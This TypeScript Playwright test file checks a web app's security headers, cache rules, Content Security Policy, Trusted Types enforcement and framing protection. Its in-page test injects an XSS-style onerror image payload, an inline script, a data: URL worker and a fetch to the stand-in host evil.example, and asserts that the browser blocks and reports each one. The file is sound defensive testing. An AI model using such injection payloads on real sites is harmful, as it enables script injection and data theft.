import type { APIRequestContext } from '@playwright/test'
import { securityHeaders } from '../../docs/hosting/headers.mjs'
import { expect, test } from './fixtures'
import { VIOLATIONS } from './violations.mjs'

test('every file of the page comes with the headers that the hosts are configured with', async ({
  page,
  request,
}) => {
  await page.goto('/sign-in')
  const entry = await page.locator('script[type="module"]').getAttribute('src')
  for (const address of ['/', '/projects/of-nobody', '/theme.js', entry ?? '']) {
    const headers = (await request.get(address)).headers()
    for (const [name, value] of Object.entries(securityHeaders('self')))
      expect(headers[name.toLowerCase()], `${name} of ${address}`).toContain(value)
    expect(headers['cross-origin-embedder-policy']).toBeUndefined()
    const isAsset = address.startsWith('/assets/')
    expect(headers['cache-control']).toBe(isAsset ? 'public, max-age=31536000, immutable' : 'no-cache')
  }
})

test('a file of a build that is gone is a 404, never the page in its place', async ({ request }) => {
  const answer = await request.get('/assets/QueuePage-gone.js')
  expect(answer.status()).toBe(404)
  expect(answer.headers()['cache-control']).toBeUndefined()
})

test.describe('somebody who could write into the page', () => {
  test.use({ expected: [/Content Security Policy|Trusted/i] })

  test('has nothing of it run, and the browser reports it', async ({ page, request, problems }) => {
    expect(problems).toEqual([])
    await page.goto('/sign-in')
    const tries = await page.evaluate(async () => {
      const outcome = (what: () => unknown) => {
        try {
          what()
          return 'let through'
        } catch (error) {
          return String(error)
        }
      }
      const script = document.createElement('script')
      const inline = document.createElement('script')
      inline.append('window.stolen = true')
      document.head.append(inline)
      return {
        html: outcome(() => (document.body.innerHTML = '<img src="x" onerror="window.stolen = true">')),
        address: outcome(() => (script.src = '/assets/index.js')),
        worker: outcome(() => new Worker('data:text/javascript,1')),
        stolen: await new Promise((resolve) => setTimeout(() => resolve('stolen' in window), 200)),
        fetched: await fetch('https://evil.example/').then(
          () => 'let through',
          (error: unknown) => String(error),
        ),
      }
    })
    expect(tries).toEqual({
      html: expect.stringContaining('TrustedHTML'),
      address: expect.stringContaining('TrustedScriptURL'),
      worker: expect.stringContaining('TrustedScriptURL'),
      stolen: false,
      fetched: expect.stringContaining('Failed to fetch'),
    })
    await expectReports(request, ['connect-src', ...Array<string>(3).fill('require-trusted-types-for')])
  })

  test('cannot show it inside of another page', async ({ page, baseURL, request }) => {
    await page.setContent(`<iframe src="${baseURL ?? ''}/sign-in"></iframe>`)
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
    await expectReports(request, ['frame-ancestors'])
  })
})

/** Takes away what the browser has reported, once it is this and nothing else. */
async function expectReports(request: APIRequestContext, directives: string[]) {
  const reported: string[] = []
  const look = async () => {
    const reports: { 'effective-directive': string }[] = await (await request.get(VIOLATIONS)).json()
    reported.push(...reports.map((report) => report['effective-directive']))
    return reported.toSorted()
  }
  await expect.poll(look).toEqual(directives)
}
